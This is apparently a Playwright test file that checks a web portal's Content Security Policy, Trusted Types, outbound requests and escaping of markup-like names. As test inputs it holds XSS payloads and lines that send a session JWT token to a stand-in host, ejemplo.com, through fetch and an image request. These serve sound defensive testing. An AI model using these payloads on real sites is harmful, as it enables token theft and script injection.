import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { productUrl } from './support/product.ts';
import { expect, openWithin, test } from './support/test.ts';

const built = process.env.WEB_ROOT ?? fileURLToPath(new URL('../web/dist', import.meta.url));
const screens = [
  '/',
  '/instances',
  '/instances/new',
  '/subscriptions',
  '/installations/history',
  '/settings',
];

test('scripts that are injected into the page do not run', async ({ page, problems, settled, enter }) => {
  // The browser reports each refusal in the console.
  problems.allow(/^console: /);
  await enter(settled.customer, '/');
  await expect(page.getByRole('heading', { level: 1, name: 'Dashboard' })).toBeVisible();
  const tries: Record<string, string> = {
    'inline script': `const s = document.createElement('script'); s.append('window.pwned = 1'); document.body.append(s);`,
    'script text': `const s = document.createElement('script'); s.textContent = 'window.pwned = 1'; document.body.append(s);`,
    'script of elsewhere': `const s = document.createElement('script'); s.src = 'https://ejemplo.com/x.js'; document.body.append(s);`,
    'data script': `const s = document.createElement('script'); s.src = 'data:text/javascript,window.pwned=1'; document.body.append(s);`,
    'stored file as a script': `const s = document.createElement('script'); s.src = '/uploads/hoja_0.xlsx'; document.body.append(s);`,
    'markup with a handler': `const d = document.createElement('div'); document.body.append(d); d.innerHTML = '<img src=x onerror="window.pwned = 1">';`,
    'handler attribute': `const i = document.createElement('img'); i.setAttribute('onerror', 'window.pwned = 1'); i.src = '/nope.png'; document.body.append(i);`,
    'javascript address': `const a = document.createElement('a'); a.href = 'javascript:window.pwned=1'; document.body.append(a); a.click();`,
    'frame with a document': `const f = document.createElement('iframe'); f.srcdoc = '<script>parent.pwned = 1</' + 'script>'; document.body.append(f);`,
    eval: `setTimeout('window.pwned = 1', 0);`,
    'worker of elsewhere': `new Worker('data:text/javascript,1');`,
    'another policy': `trustedTypes.createPolicy('mine', { createHTML: (x) => x });`,
    'style without the nonce': `const s = document.createElement('style'); s.append('body { outline: 7px solid red }'); document.head.append(s);`,
    'base address': `const b = document.createElement('base'); b.href = 'https://ejemplo.com/'; document.head.append(b);`,
    'call to elsewhere': `fetch('https://ejemplo.com/?' + sessionStorage.jwtToken).then(() => { window.pwned = 1; }, () => undefined);`,
    'picture to elsewhere': `new Image().src = 'https://ejemplo.com/?' + sessionStorage.jwtToken;`,
  };
  // Requests that the page's policy refuses do not arrive here.
  const sent: string[] = [];
  await page.route(
    (url) => url.origin !== productUrl() && url.protocol !== 'data:',
    (route) => {
      sent.push(route.request().url());
      return route.abort();
    },
  );
  for (const code of Object.values(tries)) {
    await page.evaluate(`(() => { try { ${code} } catch {} })()`);
  }
  // When this call is answered, an injected script would have run.
  await page.evaluate(`fetch('/api/meta').then((answer) => answer.text())`);
  expect(await page.evaluate('window.pwned')).toBeUndefined();
  expect(await page.evaluate('getComputedStyle(document.body).outlineWidth')).not.toBe('7px');
  expect(await page.evaluate('document.baseURI')).toMatch(productUrl());
  expect(sent).toEqual([]);
});

test('no screen calls another origin', async ({ page, settled, enter }) => {
  const foreign: string[] = [];
  page.on('request', (request) => {
    const url = request.url();
    if (!url.startsWith(`${productUrl()}/`) && !url.startsWith('data:') && !url.startsWith('blob:')) {
      foreign.push(url);
    }
  });
  await page.goto('/login');
  await expect(page.locator('h1')).toBeVisible();
  await enter(settled.customer, '/help');
  const title = page.getByRole('heading', { level: 1 });
  await expect(title).toBeVisible();
  for (const screen of [...screens, `/installations/${settled.installation.documentId}`]) {
    const before = await title.textContent();
    await openWithin(page, screen);
    await expect(title).not.toHaveText(before ?? '');
  }
  expect(foreign).toEqual([]);
});

test('the built portal contains other origins only in texts', () => {
  // Names of formats, addresses in messages and examples, and the link to a support chat: the page neither
  // loads nor calls them.
  const words = [
    'www.w3.org',
    // Of the library that reads .ods, .xls and .xlsb.
    ...['schemas.openxmlformats.org', 'sheetjs.openxmlformats.org', 'schemas.microsoft.com', 'sheetjs.com'],
    ...['purl.org', 'purl.oclc.org', 'docs.oasis-open.org', 'openoffice.org'],
    'react.dev',
    'mantine.dev',
    'simplewebauthn.dev',
    'miempresa.odoo.com',
    'wa.me',
  ];
  const files = readdirSync(built, { recursive: true, encoding: 'utf8' }).filter((name) =>
    /\.(js|css|html|svg)$/.test(name),
  );
  expect(files.length).toBeGreaterThan(5);
  for (const name of files) {
    const text = readFileSync(join(built, name), 'utf8');
    const hosts = [...text.matchAll(/(?:https?|wss?):\/\/([a-z0-9.-]+\.[a-z]{2,})/gi)].map(
      ([, host]) => host ?? '',
    );
    expect(
      hosts.filter((host) => !words.includes(host)),
      name,
    ).toEqual([]);
    expect(text, name).not.toMatch(/(?:@import|url\(|src=|href=)\s*["'(]?\s*(?:https?:)?\/\//i);
    if (name.endsWith('.html')) expect(text, name).not.toMatch(/<script(?![^>]*\bsrc=)|<style|\son\w+=/i);
  }
});

test('each page has its own nonce and strict policies', async () => {
  const policies = await Promise.all(
    ['', '/', '/index.html'].map(async (path) => {
      const answer = await fetch(productUrl() + path);
      const policy = answer.headers.get('content-security-policy') ?? '';
      const [, nonce = ''] = /'nonce-([^']+)'/.exec(policy) ?? [];
      expect(await answer.text()).toContain(`nonce="${nonce}"`);
      expect(policy).not.toMatch(/unsafe-|\*|https?:/);
      expect(policy).toContain("require-trusted-types-for 'script'");
      return nonce;
    }),
  );
  expect(new Set(policies).size).toBe(3);
});

test('names that look like markup are shown as text', async ({ page, newCustomer, enter }) => {
  const names = [
    '<img src=x onerror="window.pwned=1">',
    '"><script>window.pwned=1</script>',
    '{{constructor.constructor("window.pwned=1")()}}',
    'javascript:window.pwned=1',
    '\u202etxet desrever\u202c ñandú 😀 Z̷a̷l̷g̷o̷',
    '&lt;b&gt; &amp;nbsp; %3Cscript%3E',
  ];
  for (const name of names) {
    const data = {
      databaseName: name,
      baseUrl: 'https://odoo.ejemplo.com.gt',
      username: name,
      password: 'x',
      apiKey: 'x',
    };
    await newCustomer.call('POST', '/api/instances', { data });
  }
  await newCustomer.call('PUT', `/api/users/${newCustomer.id}`, { name: names[0] });
  await enter(newCustomer, '/instances');
  for (const name of names) {
    await expect(page.getByText(name, { exact: true }).first()).toBeVisible();
  }
  await page.getByRole('button', { name: /^Tu cuenta/ }).click();
  await expect(page.getByText(`Hola, ${names[0]}`)).toBeVisible();
  expect(await page.evaluate('window.pwned')).toBeUndefined();
});
